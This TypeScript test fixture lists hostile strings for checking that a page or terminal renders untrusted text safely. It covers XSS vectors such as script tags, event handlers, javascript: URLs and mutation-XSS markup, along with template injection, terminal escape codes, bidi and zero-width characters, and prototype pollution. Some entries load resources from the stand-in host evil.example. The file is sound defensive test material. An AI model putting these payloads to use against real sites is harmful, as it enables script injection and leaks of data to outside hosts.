// Texts that try to become more than text in a page: markup, addresses that run, ways out of an element, escapes of terminals,
// letters that hide or turn, names that every object has. Whatever of it runs sets `globalThis.pwned` or asks evil.example.
const RUN = "globalThis.pwned=1";

export const HOSTILE: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<a href="javascript:${RUN}">a link</a> [a link](javascript:${RUN}) javascript:${RUN}`,
  `![an image](https://evil.example/x.png) <https://evil.example/>`,
  `<link rel=stylesheet href=https://evil.example/x.css><style>@import "https://evil.example/y.css"</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/"><form action=https://evil.example/><input autofocus onfocus=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `</textarea></pre></summary><img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}> ' onmouseover='${RUN}`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<template><img src=x onerror=${RUN}></template><xmp><plaintext>`,
  `<details open ontoggle=${RUN}><video><source onerror=${RUN}></video>`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} #{${RUN}} <%= ${RUN} %>`,
  `&lt;b&gt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e`,
  `\u001b[31mred\u001b[0m \u001b[2J\u001b[1;1H \u001b]0;taken\u0007`,
  `\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007`,
  `right\u202eot left\u202c, \u2066isolated\u2069, zero\u200bwidth\u200d\ufeff\u00ad, filler\u3164`,
  `lines\u2028and\u2029paragraphs`,
  `__proto__ constructor toString hasOwnProperty {"__proto__":{"pwned":1}}`,
  `${"W".repeat(180)}`,
];

/** What a YAML file or a database may refuse or change, sent as JSON alone. */
export const BROKEN: readonly string[] = [`nul\u0000byte`, `lone \ud800 surrogate \udfff`];

export const ALL = HOSTILE.join("\n");
